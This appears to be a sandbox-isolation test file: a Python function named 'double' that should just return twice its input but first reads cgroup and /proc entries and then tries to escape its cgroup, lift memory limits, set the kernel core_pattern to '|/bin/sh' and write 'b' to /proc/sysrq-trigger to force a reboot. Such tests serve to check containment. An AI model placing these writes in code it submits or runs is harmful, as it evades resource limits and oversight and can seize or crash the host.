# attack: read /sys/fs/cgroup and /proc/self/cgroup, then try to move itself out of its cgroup or lift its limits
# category: isolation
# expect: AC
import os


def double(x):
    out = {}
    for p in ("/sys/fs/cgroup", "/sys", "/proc/self/cgroup"):
        try:
            out[p] = os.listdir(p) if os.path.isdir(p) else open(p).read()
        except OSError as e:
            out[p] = e.strerror
    for p, v in (("/sys/fs/cgroup/cgroup.procs", str(os.getpid())),
                 ("/sys/fs/cgroup/memory/cgroup.procs", str(os.getpid())),
                 ("/sys/fs/cgroup/memory.max", "max"), ("/proc/sys/kernel/core_pattern", "|/bin/sh"),
                 ("/proc/sysrq-trigger", "b")):
        try:
            with open(p, "w") as f:
                f.write(v)
            out[p] = "WRITTEN"
        except OSError as e:
            out[p] = e.strerror
    print(out)
    return (2 * x).reshape(-1)
